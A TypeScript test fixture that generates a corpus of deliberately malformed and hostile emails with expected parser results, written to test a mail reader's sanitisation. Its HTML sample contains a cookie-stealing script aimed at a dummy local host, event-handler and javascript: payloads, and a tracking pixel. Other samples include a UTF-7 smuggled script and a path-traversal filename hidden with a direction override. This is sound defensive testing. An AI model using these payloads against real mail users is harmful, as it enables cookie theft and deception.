import { randomBytes } from 'node:crypto';

/**
 * Mails written to break a mail reader: damaged MIME, huge headers and
 * attachments, hostile HTML, odd charsets, autoresponders, bounces, spoofed
 * names. Built in code (nothing large is committed) and self-describing, so
 * the same entries serve the parser's unit tests and the integration and
 * end-to-end tests that send them through a real SMTP server.
 *
 * Every mail uses CRLF line endings. Entries with `smtpSafe: false` break
 * SMTP itself (lines over 998 characters, NUL bytes): a relay may refuse or
 * rewrite them, so tests that send mail skip them.
 */

/** What the limits of the expectations below are: the 25 MB file is over, the small ones are not. */
export const HOSTILE_CORPUS_LIMITS = { attachmentMaxBytes: 10 * 1024 * 1024 };

/** The Message-ID of "our" reply that the autoresponder and the bounces refer to, unless a test passes its own. */
export const CORPUS_OUR_MESSAGE_ID = 'shiftdesk.msg_corpus0001.wsp_corpus@shiftdesk.test';

export interface HostileContext {
  /** Bare Message-ID of one of our outgoing mails, for the replies and bounces to refer to. */
  ourMessageId: string;
  /** The team mailbox the mail is addressed to (the To header). */
  to: string;
}

export interface HostileExpectation {
  /** InboundMail.automatic is set. */
  automatic: boolean;
  /** InboundMail.bounce is set. */
  bounce: boolean;
  /** The MIME parser gives up on this mail, so its raw text is shown (a problem line says so). */
  rawFallback?: boolean;
  textIncludes?: string[];
  /** Besides what every mail's text must exclude (HOSTILE_TEXT_NEVER). */
  textExcludes?: string[];
  /** Attachments listed with their content kept. */
  attachmentsStored?: number;
  /** Attachments listed without content, being over HOSTILE_CORPUS_LIMITS. */
  attachmentsOverLimit?: number;
  attachmentNames?: string[];
  /** The exact cleaned sender; null: no usable sender. */
  from?: { email: string; name?: string } | null;
  subject?: string;
  /** In-Reply-To names context.ourMessageId. */
  repliesToOurMessage?: boolean;
  /** bounce.originalMessageId is context.ourMessageId. */
  bounceOfOurMessage?: boolean;
  bounceRecipient?: string;
}

export interface HostileMail {
  name: string;
  /** What the mail tries, in a sentence. */
  about: string;
  /** Whether an SMTP relay can carry it unchanged. */
  smtpSafe: boolean;
  /** A fresh copy (with a fresh Message-ID), for `context` or the corpus defaults. */
  raw: (context?: Partial<HostileContext>) => Buffer;
  expect: HostileExpectation;
}

/** No mail's text may contain these, whatever its HTML tried. */
export const HOSTILE_TEXT_NEVER = ['<script', 'onerror', 'javascript:', '127.0.0.1:9', 'pixel.gif'];

const CRLF = '\r\n';
const DATE = 'Tue, 01 Dec 2026 10:00:00 +0000';

type Header = readonly [name: string, value: string];

function context(given: Partial<HostileContext> | undefined): HostileContext {
  return { ourMessageId: CORPUS_OUR_MESSAGE_ID, to: 'support@shiftdesk.test', ...given };
}

function freshMessageId(name: string): string {
  return `<corpus-${name}-${randomBytes(6).toString('hex')}@customer.test>`;
}

/** Text with any line ending turned into CRLF. */
function crlf(text: string): string {
  return text.replace(/\r?\n/g, CRLF);
}

/** A whole mail: the usual headers (unless overridden or dropped with an empty value), then `extra`, then the body. */
function mail(
  name: string,
  given: Partial<HostileContext> | undefined,
  headers: readonly Header[],
  body: string | Buffer,
): Buffer {
  const { to } = context(given);
  const defaults: Header[] = [
    ['From', 'Jane Customer <jane@customer.test>'],
    ['To', to],
    ['Date', DATE],
    ['Message-ID', freshMessageId(name)],
    ['MIME-Version', '1.0'],
  ];
  const overridden = new Set(headers.map(([header]) => header.toLowerCase()));
  const all = [...defaults.filter(([header]) => !overridden.has(header.toLowerCase())), ...headers].filter(
    ([, value]) => value !== '',
  );
  const head = all.map(([header, value]) => `${header}: ${value}${CRLF}`).join('');
  return Buffer.concat([Buffer.from(head + CRLF, 'utf8'), typeof body === 'string' ? Buffer.from(crlf(body)) : body]);
}

/** Base64 in 76-character lines, as MIME wants it. */
function base64Lines(data: Buffer): string {
  return (data.toString('base64').match(/.{1,76}/g) ?? []).join(CRLF);
}

/** Quoted-printable (RFC 2045 §6.7) with soft breaks every 73 characters, so they fall inside tags too. */
function quotedPrintable(text: string): string {
  return crlf(text)
    .split(CRLF)
    .map((line) => {
      let encoded = '';
      for (const byte of Buffer.from(line, 'utf8')) {
        encoded +=
          byte >= 33 && byte <= 126 && byte !== 61
            ? String.fromCharCode(byte)
            : byte === 32
              ? ' '
              : `=${byte.toString(16).toUpperCase().padStart(2, '0')}`;
      }
      return (encoded.match(/.{1,73}(?<!=.?)|.+/g) ?? ['']).join(`=${CRLF}`);
    })
    .join(CRLF);
}

function encodedWord(text: string, charset = 'UTF-8', bytes: Buffer = Buffer.from(text, 'utf8')): string {
  return `=?${charset}?B?${bytes.toString('base64')}?=`;
}

const HOSTILE_HTML = `<html><head><title>Head title text</title>
<style>body { background: url(http://127.0.0.1:9/style-bg.gif) } .x { color: red }</style>
<script>document.location = 'http://127.0.0.1:9/steal?c=' + document.cookie</script>
<meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/meta">
<link rel="stylesheet" href="http://127.0.0.1:9/style.css">
<base href="http://127.0.0.1:9/">
</head>
<body style="background-image: url('http://127.0.0.1:9/body-bg.gif')" onload="alert(0)">
<p>Visible paragraph one.</p>
<img src="http://127.0.0.1:9/pixel.gif" width="1" height="1" alt="">
<img src="x" onerror="fetch('http://127.0.0.1:9/onerror')" alt="broken image alt">
<p><a href="javascript:alert(document.domain)">Click for refund</a> and
<a href=" JaVaScRiPt:alert(2)">Second trap</a> and
<a href="https://help.customer.test/faq">Read the FAQ</a></p>
<iframe src="http://127.0.0.1:9/frame">Iframe fallback text</iframe>
<div onclick="alert(1)" style="background: url(http://127.0.0.1:9/div-bg.gif)">Styled div text</div>
<svg onload="alert(1)"><text>Svg text</text></svg>
<form action="http://127.0.0.1:9/post"><input name="pw" value="secret-input-value"><button>Submit button</button></form>
<object data="http://127.0.0.1:9/object.swf">Object text</object>
<embed src="http://127.0.0.1:9/embed.swf">
<table><tr><td>Cell one</td><td>Cell two</td></tr></table>
</body></html>
`;

const HOSTILE_HTML_EXPECT = {
  textIncludes: [
    'Visible paragraph one.',
    'Click for refund',
    'Second trap',
    'Read the FAQ',
    'https://help.customer.test/faq',
    'Styled div text',
    'Submit button',
    'Cell one',
    'Cell two',
  ],
  textExcludes: [
    'Head title text',
    'style-bg',
    'document.cookie',
    'alert(',
    'onclick',
    'onload',
    'secret-input-value',
    'Iframe fallback text',
    'Object text',
    'Svg text',
    'broken image alt',
    'color: red',
    'url(',
  ],
};

/** ~25 MB: over HOSTILE_CORPUS_LIMITS, and about 34 MB once base64-encoded (under OpenSMTPD's 35 MB default). */
const LARGE_ATTACHMENT_BYTES = 25 * 1024 * 1024;

function multipart(boundary: string, parts: readonly string[], close = true): string {
  return (
    parts.map((part) => `--${boundary}${CRLF}${crlf(part)}${CRLF}`).join('') + (close ? `--${boundary}--${CRLF}` : '')
  );
}

/** The body of a multipart/mixed with boundary "n1" holding one holding one ... `depth` levels deep. */
function nestedMultipart(depth: number, innermost: string): string {
  let part = `Content-Type: text/plain; charset=utf-8${CRLF}${CRLF}${innermost}`;
  for (let level = depth; level >= 2; level -= 1) {
    part = `Content-Type: multipart/mixed; boundary="n${level}"${CRLF}${CRLF}--n${level}${CRLF}${part}${CRLF}--n${level}--`;
  }
  return `--n1${CRLF}${part}${CRLF}--n1--${CRLF}`;
}

const ISO_2022_JP_BODY = Buffer.from(
  'GyRCJCpMZCQkOWckbyQ7JCIkaiQsJEgkJiQ0JDYkJCReJDkhIyVXJWolcyU/ITwkLEYwJC0kXiQ7JHMhIxsoQg==',
  'base64',
); // お問い合わせありがとうございます。プリンターが動きません。
const ISO_2022_JP_SUBJECT = Buffer.from('GyRCJVclaiVzJT8hPDhOPmMbKEI=', 'base64'); // プリンター故障
const KOI8_R_BODY = Buffer.from('+sTSwdfT1NfVytTFISD1IM3FztEgzsUg0sHCz9TBxdQg0NLJztTF0i4=', 'base64'); // Здравствуйте! У меня не работает принтер.
const KOI8_R_SUBJECT = Buffer.from('8NLJztTF0iDTzM/Nwc4=', 'base64'); // Принтер сломан

function dsnOriginal(ourMessageId: string): string {
  return [
    'Return-Path: <support@shiftdesk.test>',
    `Message-ID: <${ourMessageId}>`,
    'From: Support <support@shiftdesk.test>',
    'To: nobody@customer.test',
    'Subject: Re: Printer on fire [#1234]',
    `Date: ${DATE}`,
    '',
    'We are on it.',
  ].join(CRLF);
}

export const HOSTILE_MAILS: readonly HostileMail[] = [
  {
    name: 'baseline-plain-utf8',
    about: 'An ordinary mail, as a control.',
    smtpSafe: true,
    raw: (given) =>
      mail(
        'baseline-plain-utf8',
        given,
        [
          ['Subject', 'Corpus baseline: printer on fire'],
          ['Content-Type', 'text/plain; charset=utf-8'],
          ['Content-Transfer-Encoding', '8bit'],
        ],
        'Hello,\n\nthe printer is on fire.\n\nGrüße, Jane\n',
      ),
    expect: {
      automatic: false,
      bounce: false,
      subject: 'Corpus baseline: printer on fire',
      from: { email: 'jane@customer.test', name: 'Jane Customer' },
      textIncludes: ['the printer is on fire.', 'Grüße, Jane'],
    },
  },
  {
    name: 'alternative-prefers-plain',
    about: 'multipart/alternative: the text/plain part is the body, the HTML is not used.',
    smtpSafe: true,
    raw: (given) =>
      mail(
        'alternative-prefers-plain',
        given,
        [
          ['Subject', 'Corpus: alternative parts'],
          ['Content-Type', 'multipart/alternative; boundary="alt"'],
        ],
        multipart('alt', [
          'Content-Type: text/plain; charset=utf-8\n\nThe plain alternative.',
          'Content-Type: text/html; charset=utf-8\n\n<p>The HTML alternative.</p><script>alert(1)</script>',
        ]),
      ),
    expect: {
      automatic: false,
      bounce: false,
      textIncludes: ['The plain alternative.'],
      textExcludes: ['The HTML alternative.'],
    },
  },
  {
    name: 'html-hostile',
    about:
      'HTML only: script, style, on* handlers, javascript: links, iframe, object, form, a tracking pixel, CSS background URLs.',
    smtpSafe: true,
    raw: (given) =>
      mail(
        'html-hostile',
        given,
        [
          ['Subject', 'Corpus: hostile HTML'],
          ['Content-Type', 'text/html; charset=utf-8'],
        ],
        HOSTILE_HTML,
      ),
    expect: { automatic: false, bounce: false, ...HOSTILE_HTML_EXPECT },
  },
  {
    name: 'html-hostile-quoted-printable',
    about: 'The hostile HTML in quoted-printable with soft breaks inside tags, beside a small attachment.',
    smtpSafe: true,
    raw: (given) =>
      mail(
        'html-hostile-quoted-printable',
        given,
        [
          ['Subject', 'Corpus: hostile HTML, quoted-printable'],
          ['Content-Type', 'multipart/mixed; boundary="qp"'],
        ],
        multipart('qp', [
          `Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\n${quotedPrintable(HOSTILE_HTML)}`,
          `Content-Type: text/plain; name="notes.txt"\nContent-Disposition: attachment; filename="notes.txt"\nContent-Transfer-Encoding: base64\n\n${base64Lines(Buffer.from('some notes'))}`,
        ]),
      ),
    expect: {
      automatic: false,
      bounce: false,
      ...HOSTILE_HTML_EXPECT,
      attachmentsStored: 1,
      attachmentNames: ['notes.txt'],
    },
  },
  {
    name: 'html-deeply-nested',
    about: '20,000 nested <div> elements, deeper than the HTML converter walks.',
    smtpSafe: true,
    raw: (given) =>
      mail(
        'html-deeply-nested',
        given,
        [
          ['Subject', 'Corpus: deeply nested HTML'],
          ['Content-Type', 'text/html; charset=utf-8'],
        ],
        `<p>Shallow text before the nesting.</p>\n${'<div>'.repeat(20_000).replace(/(.{500})/g, '$1\n')}Deep text\n`,
      ),
    expect: { automatic: false, bounce: false, textIncludes: ['Shallow text before the nesting.'] },
  },
  {
    name: 'mime-unterminated-boundary',
    about: 'A multipart whose closing boundary never comes; the last part runs to the end.',
    smtpSafe: true,
    raw: (given) =>
      mail(
        'mime-unterminated-boundary',
        given,
        [
          ['Subject', 'Corpus: unterminated boundary'],
          ['Content-Type', 'multipart/mixed; boundary="never-closed"'],
        ],
        multipart(
          'never-closed',
          [
            'Content-Type: text/plain; charset=utf-8\n\nPart one text.',
            'Content-Type: application/pdf; name="half.pdf"\nContent-Transfer-Encoding: base64\n\nJVBERi0xLjQK',
          ],
          false,
        ),
      ),
    expect: { automatic: false, bounce: false, textIncludes: ['Part one text.'] },
  },
  {
    name: 'mime-missing-boundary',
    about: 'multipart/mixed without a boundary parameter.',
    smtpSafe: true,
    raw: (given) =>
      mail(
        'mime-missing-boundary',
        given,
        [
          ['Subject', 'Corpus: missing boundary'],
          ['Content-Type', 'multipart/mixed'],
        ],
        '--whatever\nContent-Type: text/plain\n\nText inside a multipart without a boundary.\n--whatever--\n',
      ),
    expect: {
      automatic: false,
      bounce: false,
      rawFallback: true,
      textIncludes: ['Text inside a multipart without a boundary.'],
    },
  },
  {
    name: 'mime-garbage-transfer-encoding',
    about: 'A Content-Transfer-Encoding nobody knows.',
    smtpSafe: true,
    raw: (given) =>
      mail(
        'mime-garbage-transfer-encoding',
        given,
        [
          ['Subject', 'Corpus: garbage transfer encoding'],
          ['Content-Type', 'text/plain; charset=utf-8'],
          ['Content-Transfer-Encoding', 'x-garbage-9000; =?!!'],
        ],
        'Garbage transfer encoding text.\n',
      ),
    expect: { automatic: false, bounce: false, textIncludes: ['Garbage transfer encoding text.'] },
  },
  {
    name: 'mime-deeply-nested',
    about: '1,200 nested multiparts: more parts than the MIME parser accepts.',
    smtpSafe: true,
    raw: (given) =>
      mail(
        'mime-deeply-nested',
        given,
        [
          ['Subject', 'Corpus: deeply nested multiparts'],
          ['Content-Type', 'multipart/mixed; boundary="n1"'],
        ],
        nestedMultipart(1_200, 'Innermost text.'),
      ),
    expect: { automatic: false, bounce: false, rawFallback: true, textIncludes: ['Innermost text.'] },
  },
  {
    name: 'header-1mb-single-line',
    about: 'A header of over 1 MB on one line.',
    smtpSafe: false,
    raw: (given) =>
      mail(
        'header-1mb-single-line',
        given,
        [
          ['Subject', 'Corpus: a 1 MB header line'],
          ['X-Junk', 'a'.repeat(1_100_000)],
          ['Content-Type', 'text/plain; charset=utf-8'],
        ],
        'Body after a huge header.\n',
      ),
    expect: {
      automatic: false,
      bounce: false,
      rawFallback: true,
      subject: 'Corpus: a 1 MB header line',
      textIncludes: ['Body after a huge header.'],
    },
  },
  {
    name: 'header-1mb-folded',
    about: 'A header of over 1 MB folded into short lines, as SMTP allows.',
    smtpSafe: true,
    raw: (given) =>
      mail(
        'header-1mb-folded',
        given,
        [
          ['Subject', 'Corpus: a 1 MB folded header'],
          ['X-Junk', ('b'.repeat(76) + CRLF + ' ').repeat(14_000).trimEnd()],
          ['Content-Type', 'text/plain; charset=utf-8'],
        ],
        'Body after a huge folded header.\n',
      ),
    expect: {
      automatic: false,
      bounce: false,
      rawFallback: true,
      subject: 'Corpus: a 1 MB folded header',
      textIncludes: ['Body after a huge folded header.'],
    },
  },
  {
    name: 'header-10000-lines',
    about: '10,000 header lines.',
    smtpSafe: true,
    raw: (given) =>
      mail(
        'header-10000-lines',
        given,
        [
          ['Subject', 'Corpus: 10,000 header lines'],
          ...Array.from({ length: 10_000 }, (_, index): Header => [`X-Filler-${index}`, `value ${index}`]),
          ['Content-Type', 'text/plain; charset=utf-8'],
        ],
        'Body after many headers.\n',
      ),
    expect: {
      automatic: false,
      bounce: false,
      subject: 'Corpus: 10,000 header lines',
      textIncludes: ['Body after many headers.'],
    },
  },
  {
    name: 'header-line-without-colon',
    about: 'A header block with a line that is no header field (SMTP relays refuse it as not RFC 5322).',
    smtpSafe: false,
    raw: (given) =>
      mail(
        'header-line-without-colon',
        given,
        [
          ['Subject', 'Corpus: header line without colon'],
          ['X-Broken', `the next line has no colon${CRLF}this header line has no colon`],
          ['Content-Type', 'text/plain; charset=utf-8'],
        ],
        'Body after a broken header.\n',
      ),
    expect: {
      automatic: false,
      bounce: false,
      subject: 'Corpus: header line without colon',
      textIncludes: ['Body after a broken header.'],
    },
  },
  {
    name: 'attachment-25mb',
    about: 'A 25 MB attachment (over the limit: listed, not stored) beside a small one.',
    smtpSafe: true,
    raw: (given) =>
      mail(
        'attachment-25mb',
        given,
        [
          ['Subject', 'Corpus: a 25 MB attachment'],
          ['Content-Type', 'multipart/mixed; boundary="big"'],
        ],
        multipart('big', [
          'Content-Type: text/plain; charset=utf-8\n\nSee the attached disk image.',
          `Content-Type: application/octet-stream; name="disk.img"\nContent-Disposition: attachment; filename="disk.img"\nContent-Transfer-Encoding: base64\n\n${base64Lines(Buffer.alloc(LARGE_ATTACHMENT_BYTES, 7))}`,
          `Content-Type: text/plain; name="small.txt"\nContent-Disposition: attachment; filename="small.txt"\n\nsmall file`,
        ]),
      ),
    expect: {
      automatic: false,
      bounce: false,
      textIncludes: ['See the attached disk image.'],
      attachmentsStored: 1,
      attachmentsOverLimit: 1,
      attachmentNames: ['disk.img', 'small.txt'],
    },
  },
  {
    name: 'attachments-60',
    about: '60 small attachments: 50 are listed, the rest counted.',
    smtpSafe: true,
    raw: (given) =>
      mail(
        'attachments-60',
        given,
        [
          ['Subject', 'Corpus: 60 attachments'],
          ['Content-Type', 'multipart/mixed; boundary="many"'],
        ],
        multipart('many', [
          'Content-Type: text/plain; charset=utf-8\n\nSixty files attached.',
          ...Array.from(
            { length: 60 },
            (_, index) =>
              `Content-Type: application/octet-stream\nContent-Disposition: attachment; filename="file-${index + 1}.bin"\nContent-Transfer-Encoding: base64\n\n${base64Lines(Buffer.from(`file ${index + 1}`))}`,
          ),
        ]),
      ),
    expect: {
      automatic: false,
      bounce: false,
      textIncludes: ['Sixty files attached.'],
      attachmentsStored: 50,
      attachmentsOverLimit: 0,
    },
  },
  {
    name: 'filenames-hostile',
    about:
      'Attachment names with a path, direction overrides and control characters, and one without a name; a subject with an override.',
    smtpSafe: true,
    raw: (given) =>
      mail(
        'filenames-hostile',
        given,
        [
          ['Subject', encodedWord('Corpus: invoice \u202Egnp.exe')],
          ['Content-Type', 'multipart/mixed; boundary="names"'],
        ],
        multipart('names', [
          'Content-Type: text/plain; charset=utf-8\n\nFiles with odd names.',
          `Content-Type: application/octet-stream\nContent-Disposition: attachment; filename*=utf-8''..%5C..%2Fetc%2Finvoice%E2%80%AEtxt.exe%07\nContent-Transfer-Encoding: base64\n\n${base64Lines(Buffer.from('MZ'))}`,
          `Content-Type: application/octet-stream\nContent-Transfer-Encoding: base64\n\n${base64Lines(Buffer.from('nameless'))}`,
        ]),
      ),
    expect: {
      automatic: false,
      bounce: false,
      subject: 'Corpus: invoice gnp.exe',
      attachmentsStored: 2,
      attachmentNames: ['invoicetxt.exe', 'attachment-2'],
    },
  },
  {
    name: 'charset-iso-2022-jp',
    about: 'Japanese in ISO-2022-JP, body and subject.',
    smtpSafe: true,
    raw: (given) =>
      mail(
        'charset-iso-2022-jp',
        given,
        [
          ['Subject', `Corpus: ${encodedWord('', 'ISO-2022-JP', ISO_2022_JP_SUBJECT)}`],
          ['Content-Type', 'text/plain; charset=ISO-2022-JP'],
          ['Content-Transfer-Encoding', '7bit'],
        ],
        Buffer.concat([ISO_2022_JP_BODY, Buffer.from(CRLF)]),
      ),
    expect: {
      automatic: false,
      bounce: false,
      subject: 'Corpus: プリンター故障',
      textIncludes: ['お問い合わせありがとうございます。プリンターが動きません。'],
    },
  },
  {
    name: 'charset-koi8-r',
    about: 'Russian in KOI8-R, 8-bit body and encoded subject.',
    smtpSafe: true,
    raw: (given) =>
      mail(
        'charset-koi8-r',
        given,
        [
          ['Subject', `Corpus: ${encodedWord('', 'KOI8-R', KOI8_R_SUBJECT)}`],
          ['Content-Type', 'text/plain; charset=koi8-r'],
          ['Content-Transfer-Encoding', '8bit'],
        ],
        Buffer.concat([KOI8_R_BODY, Buffer.from(CRLF)]),
      ),
    expect: {
      automatic: false,
      bounce: false,
      subject: 'Corpus: Принтер сломан',
      textIncludes: ['Здравствуйте! У меня не работает принтер.'],
    },
  },
  {
    name: 'charset-windows-1252',
    about: 'Windows-1252 smart quotes, dash and euro sign.',
    smtpSafe: true,
    raw: (given) =>
      mail(
        'charset-windows-1252',
        given,
        [
          ['Subject', 'Corpus: windows-1252'],
          ['Content-Type', 'text/plain; charset=windows-1252'],
          ['Content-Transfer-Encoding', '8bit'],
        ],
        Buffer.from('Smart \x93quotes\x94 \x96 and \x805\r\n', 'latin1'),
      ),
    expect: { automatic: false, bounce: false, textIncludes: ['Smart “quotes” – and €5'] },
  },
  {
    name: 'charset-unknown',
    about: 'A charset name that does not exist.',
    smtpSafe: true,
    raw: (given) =>
      mail(
        'charset-unknown',
        given,
        [
          ['Subject', '=?x-bogus-42?B?Qm9ndXMgc3ViamVjdA==?='],
          ['Content-Type', 'text/plain; charset="x-bogus-42"'],
        ],
        'Plain words survive a bogus charset.\n',
      ),
    expect: { automatic: false, bounce: false, textIncludes: ['Plain words survive a bogus charset.'] },
  },
  {
    name: 'charset-utf-7-smuggling',
    about: 'UTF-7, which would turn +ADw-script+AD4- into <script>; it must not be decoded.',
    smtpSafe: true,
    raw: (given) =>
      mail(
        'charset-utf-7-smuggling',
        given,
        [
          ['Subject', 'Corpus: utf-7'],
          ['Content-Type', 'text/html; charset=utf-7'],
        ],
        '+ADw-script+AD4-alert(1)+ADw-/script+AD4- UTF-7 words\n',
      ),
    expect: { automatic: false, bounce: false, textIncludes: ['UTF-7 words'] },
  },
  {
    name: 'broken-base64',
    about: 'A base64 body with invalid characters and a missing end.',
    smtpSafe: true,
    raw: (given) =>
      mail(
        'broken-base64',
        given,
        [
          ['Subject', 'Corpus: broken base64'],
          ['Content-Type', 'text/plain; charset=utf-8'],
          ['Content-Transfer-Encoding', 'base64'],
        ],
        `${Buffer.from('Broken base64 still yields words.').toString('base64')}\n!!!@@@###\nQUJD=A`,
      ),
    expect: { automatic: false, bounce: false, textIncludes: ['Broken base64 still yields words.'] },
  },
  {
    name: 'broken-quoted-printable',
    about: 'Quoted-printable with bad escapes and a dangling soft break.',
    smtpSafe: true,
    raw: (given) =>
      mail(
        'broken-quoted-printable',
        given,
        [
          ['Subject', 'Corpus: broken quoted-printable'],
          ['Content-Type', 'text/plain; charset=utf-8'],
          ['Content-Transfer-Encoding', 'quoted-printable'],
        ],
        'Soft=\nbreak, a bad escape =ZZ, a lone =3 and an end =\n',
      ),
    expect: { automatic: false, bounce: false, textIncludes: ['Softbreak'] },
  },
  {
    name: 'eight-bit-without-charset',
    about: 'Latin-1 bytes with no charset declared.',
    smtpSafe: true,
    raw: (given) =>
      mail(
        'eight-bit-without-charset',
        given,
        [
          ['Subject', 'Corpus: 8-bit without charset'],
          ['Content-Type', 'text/plain'],
        ],
        Buffer.from('Caf\xe9 cr\xe8me, no charset.\r\n', 'latin1'),
      ),
    expect: { automatic: false, bounce: false, textIncludes: ['no charset.'] },
  },
  {
    name: 'nul-bytes',
    about: 'NUL bytes in a header and the body.',
    smtpSafe: false,
    raw: (given) =>
      mail(
        'nul-bytes',
        given,
        [
          ['Subject', 'Corpus: nul\u0000bytes'],
          ['Content-Type', 'text/plain; charset=utf-8'],
        ],
        'before\u0000after\n',
      ),
    expect: { automatic: false, bounce: false, subject: 'Corpus: nul bytes', textIncludes: ['beforeafter'] },
  },
  {
    name: 'enormous-line',
    about: 'A 2 MB body line; the text is cut and says so.',
    smtpSafe: false,
    raw: (given) =>
      mail(
        'enormous-line',
        given,
        [
          ['Subject', 'Corpus: enormous line'],
          ['Content-Type', 'text/plain; charset=utf-8'],
        ],
        `${'x'.repeat(2_000_000)}\n`,
      ),
    expect: { automatic: false, bounce: false, textIncludes: ['The text was cut here'] },
  },
  {
    name: 'empty-body',
    about: 'Headers and nothing else.',
    smtpSafe: true,
    raw: (given) =>
      mail(
        'empty-body',
        given,
        [
          ['Subject', ''],
          ['Content-Type', 'text/plain'],
        ],
        '',
      ),
    expect: { automatic: false, bounce: false, subject: '(no subject)', textIncludes: ['(no text)'] },
  },
  {
    name: 'no-from',
    about: 'No From header at all.',
    smtpSafe: true,
    raw: (given) =>
      mail(
        'no-from',
        given,
        [
          ['From', ''],
          ['Subject', 'Corpus: no From'],
          ['Content-Type', 'text/plain'],
        ],
        'Who sent this?\n',
      ),
    expect: { automatic: false, bounce: false, from: null, textIncludes: ['Who sent this?'] },
  },
  {
    name: 'from-invalid-address',
    about: 'A From address that is no address, and a Date that is no date.',
    smtpSafe: true,
    raw: (given) =>
      mail(
        'from-invalid-address',
        given,
        [
          ['From', 'Jane <jane@customer..test>'],
          ['Date', 'yesterday-ish'],
          ['Subject', 'Corpus: invalid From'],
          ['Content-Type', 'text/plain'],
        ],
        'My address is broken.\n',
      ),
    expect: { automatic: false, bounce: false, from: null, textIncludes: ['My address is broken.'] },
  },
  {
    name: 'from-name-bidi-script',
    about: 'A From display name with a right-to-left override and a <script> tag.',
    smtpSafe: true,
    raw: (given) =>
      mail(
        'from-name-bidi-script',
        given,
        [
          ['From', `${encodedWord('\u202Eevil\u202C <script>alert(1)</script> Support')} <spoof@customer.test>`],
          ['Subject', 'Corpus: spoofed display name'],
          ['Content-Type', 'text/plain'],
        ],
        'Please reset my password.\n',
      ),
    expect: {
      automatic: false,
      bounce: false,
      from: { email: 'spoof@customer.test', name: 'evil <script>alert(1)</script> Support' },
      textIncludes: ['Please reset my password.'],
    },
  },
  {
    name: 'autoresponder-reply',
    about: 'An autoresponder (Auto-Submitted: auto-replied) answering one of our replies.',
    smtpSafe: true,
    raw: (given) => {
      const { ourMessageId } = context(given);
      return mail(
        'autoresponder-reply',
        given,
        [
          ['Subject', 'Automatic reply: Re: Printer on fire [#1234]'],
          ['Auto-Submitted', 'auto-replied'],
          ['In-Reply-To', `<${ourMessageId}>`],
          ['References', `<${ourMessageId}>`],
          ['Content-Type', 'text/plain; charset=utf-8'],
        ],
        'Thank you for your mail. I will answer it as soon as I can.\n',
      );
    },
    expect: {
      automatic: true,
      bounce: false,
      repliesToOurMessage: true,
      textIncludes: ['I will answer it as soon as I can.'],
    },
  },
  {
    name: 'out-of-office-bulk',
    about: 'An out-of-office reply marked only with Precedence: bulk.',
    smtpSafe: true,
    raw: (given) => {
      const { ourMessageId } = context(given);
      return mail(
        'out-of-office-bulk',
        given,
        [
          ['Subject', 'Out of Office: Re: Printer on fire [#1234]'],
          ['Precedence', 'bulk'],
          ['In-Reply-To', `<${ourMessageId}>`],
          ['Content-Type', 'text/plain; charset=utf-8'],
        ],
        'I am out of the office until Monday.\n',
      );
    },
    expect: {
      automatic: true,
      bounce: false,
      repliesToOurMessage: true,
      textIncludes: ['out of the office until Monday'],
    },
  },
  {
    name: 'dsn-bounce',
    about: 'A standard delivery status notification (RFC 3464) for one of our replies.',
    smtpSafe: true,
    raw: (given) => {
      const { ourMessageId } = context(given);
      return mail(
        'dsn-bounce',
        given,
        [
          ['From', 'Mail Delivery System <MAILER-DAEMON@mx.customer.test>'],
          ['Subject', 'Undelivered Mail Returned to Sender'],
          ['Auto-Submitted', 'auto-replied'],
          ['Content-Type', 'multipart/report; report-type=delivery-status; boundary="dsn"'],
        ],
        multipart('dsn', [
          "Content-Description: Notification\nContent-Type: text/plain; charset=us-ascii\n\nThis is the mail system at host mx.customer.test.\n\nI'm sorry to have to inform you that your message could not\nbe delivered to one or more recipients.\n\n<nobody@customer.test>: host mx.customer.test said: 550 5.1.1 user unknown",
          'Content-Description: Delivery report\nContent-Type: message/delivery-status\n\nReporting-MTA: dns; mx.customer.test\nArrival-Date: Tue,  1 Dec 2026 10:00:01 +0000 (UTC)\n\nFinal-Recipient: rfc822; Nobody@customer.test\nOriginal-Recipient: rfc822;nobody@customer.test\nAction: failed\nStatus: 5.1.1\nRemote-MTA: dns; mx.customer.test\nDiagnostic-Code: smtp; 550 5.1.1 <nobody@customer.test>:\n    Recipient address rejected: user unknown',
          `Content-Description: Undelivered Message\nContent-Type: message/rfc822\n\n${dsnOriginal(ourMessageId)}`,
        ]),
      );
    },
    expect: {
      automatic: true,
      bounce: true,
      bounceOfOurMessage: true,
      bounceRecipient: 'nobody@customer.test',
      textIncludes: ['could not'],
    },
  },
  {
    name: 'bounce-plain-text',
    about: 'A qmail-style bounce in plain text, the original headers quoted in the body.',
    smtpSafe: true,
    raw: (given) => {
      const { ourMessageId } = context(given);
      return mail(
        'bounce-plain-text',
        given,
        [
          ['From', 'MAILER-DAEMON@mx.customer.test'],
          ['Subject', 'failure notice'],
          ['Content-Type', 'text/plain; charset=us-ascii'],
        ],
        `Hi. This is the qmail-send program at mx.customer.test.\nI'm afraid I wasn't able to deliver your message to the following addresses.\nThis is a permanent error; I've given up. Sorry it didn't work out.\n\n<gone@customer.test>:\n550 5.1.1 The email account that you tried to reach does not exist\n\n--- Below this line is a copy of the message.\n\n${dsnOriginal(ourMessageId)}\n`,
      );
    },
    expect: {
      automatic: true,
      bounce: true,
      bounceOfOurMessage: true,
      bounceRecipient: 'gone@customer.test',
      textIncludes: ['permanent error'],
    },
  },
];
